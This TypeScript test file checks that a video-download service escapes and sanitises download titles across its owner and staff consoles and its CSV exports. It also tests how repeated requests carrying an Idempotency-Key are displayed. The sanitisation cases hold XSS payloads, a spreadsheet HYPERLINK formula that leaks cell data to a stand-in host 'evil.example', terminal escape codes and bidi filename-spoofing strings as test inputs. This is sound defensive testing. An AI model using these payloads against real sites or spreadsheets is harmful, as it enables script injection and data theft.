import { beforeAll, describe, expect, it } from 'vitest';
import type { JobCommand } from '../../src/domain/download-job.ts';
import { openerOf } from '../../src/domain/people.ts';
import { newId } from '../../src/system/clock-and-chance.ts';
import { recordStep } from '../commands/record-step.ts';
import { call } from '../support/client.ts';
import { waitFor } from '../support/wait-for.ts';
import { type Browser, textOf } from './browser.ts';
import { staffOfFile } from './staff/staff-of-file.ts';

const service = await staffOfFile();
let accountId: string;
let key: string;
let owner: Browser;
let staff: Browser;

beforeAll(async () => {
  accountId = await service.openAccount('owner@example.com');
  ({ key } = await service.installation.cli<{ key: string }>(['keys', 'issue', accountId, '--label', 'nightly']));
  owner = await service.newSession({ accountId, personId: openerOf(accountId) });
  staff = await service.signedInAs('support');
});

const queue = async (item: string, headers = {}): Promise<string> => {
  const body = { url: service.installation.sampleUrl(item) };
  const { status, data } = await call(service.api.url, '/video/download', { key, body, headers });
  expect(status).toBe(202);
  return String(data['request_token']);
};

/** A download whose platform gives this title. */
async function deliver(item: string, title: string): Promise<string> {
  const token = await queue(item);
  const queued = async () =>
    (
      await service.sql<{ usage_stream: string; usage_revision: string }>(
        'select usage_stream, usage_revision from jobs where token = $1',
        [token],
      )
    )[0];
  const { usage_stream: usageStream, usage_revision: revision } = await waitFor(queued, { what: 'the job' });
  const usageRevision = Number(revision);
  const workerId = newId('wrk');
  const dependencies = { store: service.commands.store, now: () => new Date().toISOString() };
  const record = (command: JobCommand) => recordStep(dependencies, command, { type: 'system', id: workerId });
  const claim = {
    workerId,
    revision: await record({ kind: 'claim', token, workerId, accountId, usageStream, usageRevision }),
  };
  const file = { name: 'media.mp4', mime: 'video/mp4', sizeBytes: 1234, sha256: 'b'.repeat(64), durationSeconds: 9.5 };
  await record({ kind: 'complete', token, claim, file: { ...file, title } });
  const isThere = async () =>
    (await service.sql('select from job_timeline where token = $1 and type = $2', [token, 'JobCompleted'])).length > 0;
  await waitFor(isThere, { what: 'the finished download' });
  await waitFor(
    async () => (await service.sql("select from jobs where token = $1 and status = 'done'", [token])).length > 0,
    { what: 'its row' },
  );
  return token;
}

/** Every page and file that shows a download, of its owner and of staff. */
const showAll = async (token: string) => ({
  list: await owner.get('/console/downloads'),
  page: await owner.get(`/console/downloads/${token}`),
  csv: await owner.get('/console/downloads.csv'),
  staffList: await staff.get(`/staff/accounts/${accountId}/downloads`),
  staffPage: await staff.get(`/staff/downloads/${token}`),
  staffAccount: await staff.get(`/staff/accounts/${accountId}`),
  staffCsv: await staff.get(`/staff/accounts/${accountId}/downloads.csv`),
});

/** The line of a download in a CSV, which is the whole line: no title has a line break. */
const lineOf = (csv: string, token: string): string =>
  csv.split('\n').find((line) => line.includes(`,${token},`)) ?? 'no line';

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const quoted = (text: string) => (/[",]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

describe('the title of a download', () => {
  it('is wherever the download is, and the search finds it', async () => {
    const token = await deliver('bars', 'Colour bars of Ünal & sons');
    for (const [name, { status, text }] of Object.entries(await showAll(token))) {
      expect([name, status]).toEqual([name, 200]);
      const shown = name.toLowerCase().endsWith('csv')
        ? 'Colour bars of Ünal & sons'
        : 'Colour bars of Ünal &amp; sons';
      expect([name, text]).toEqual([name, expect.stringContaining(shown)]);
    }
    const found = await owner.get(`/console/downloads?search=${encodeURIComponent('BARS of ünal')}`);
    expect(found.text).toContain(token);
    expect(textOf(await owner.get('/console/downloads?search=no+such+film'))).toContain('No download matches.');
  });

  it.each([
    [
      '<img src=x onerror=alert(1)></a><script>alert(1)</script>',
      '<img src=x onerror=alert(1)></a><script>alert(1)</script>',
    ],
    ['=HYPERLINK("http://evil.example/?"&A1,"free")', '=HYPERLINK("http://evil.example/?"&A1,"free")'],
    ['\u001b[2Jtwo\r\nlines\u0000\u2028three', '[2Jtwo lines three'],
    ['\u202egpj.exe\u2066\u200f\u061c', 'gpj.exe'],
    ['x'.repeat(10_000), 'x'.repeat(200)],
    ['\ud800half', '\ufffdhalf'],
  ])('does no harm: %j', async (title, stored) => {
    const token = await deliver('bars', title);
    const { csv, staffCsv, ...pages } = await showAll(token);
    for (const [name, shown] of Object.entries(pages)) {
      const { status, text } = shown;
      expect([name, status]).toEqual([name, 200]);
      expect([name, textOf(shown)]).toEqual([name, expect.stringContaining(escaped(stored))]);
      expect(text).not.toMatch(/<img|<script>alert|\u001b|\p{Bidi_Control}|x{201}/u);
    }
    for (const { text } of [csv, staffCsv])
      expect(lineOf(text, token)).toContain(`,bars,${quoted(stored.startsWith('=') ? `'${stored}` : stored)},http:`);
    expect(service.api.log() + service.projector.log()).not.toContain(stored);
  });

  it('is the id of its video where there is none that is seen', async () => {
    const token = await deliver('vertical', '\u200b \u202e');
    const { page, csv } = await showAll(token);
    expect(page.text).toContain('<h1>sample vertical</h1>');
    expect(lineOf(csv.text, token)).toContain(',sample,vertical,,http:');
  });
});

it('a download says that its request had an Idempotency-Key, when it came again, and by which key', async () => {
  const headers = { 'idempotency-key': 'order-1' };
  const token = await queue('tracks', headers);
  const isThere = async () => (await owner.get(`/console/downloads/${token}`)).status === 200;
  await waitFor(isThere, { what: 'the download' });
  const once = await showAll(token);
  for (const page of [once.page, once.staffPage]) {
    expect(textOf(page)).toContain(
      'with an Idempotency-Key: sent again with it, it gets the same answer and is charged once',
    );
    expect(textOf(page)).toMatch(/nightly \(rtk_\w{8}\)/);
  }
  expect(lineOf(once.csv.text, token)).toContain(',nightly,yes,,1,0,0');
  expect(await queue('tracks', headers)).toBe(token);
  const isRepeated = async () =>
    (await service.sql('select from job_timeline where token = $1 and type = $2', [token, 'DownloadConfirmed']))
      .length > 0;
  await waitFor(isRepeated, { what: 'the repeat' });
  const again = await showAll(token);
  for (const page of [again.page, again.staffPage])
    expect(textOf(page)).toMatch(
      /with an Idempotency-Key; a repeat was answered with this download, and not charged again, on \w{3} \d{4}-/,
    );
  for (const list of [again.list, again.staffList])
    expect(textOf(list)).toMatch(/nightly \(rtk_\w{8}\) with an Idempotency-Key, and sent again/);
  for (const { text } of [again.csv, again.staffCsv])
    expect(lineOf(text, token)).toMatch(/,nightly,yes,\d{4}-[-\d]+T[:.\d]+Z,1,0,0/);
});
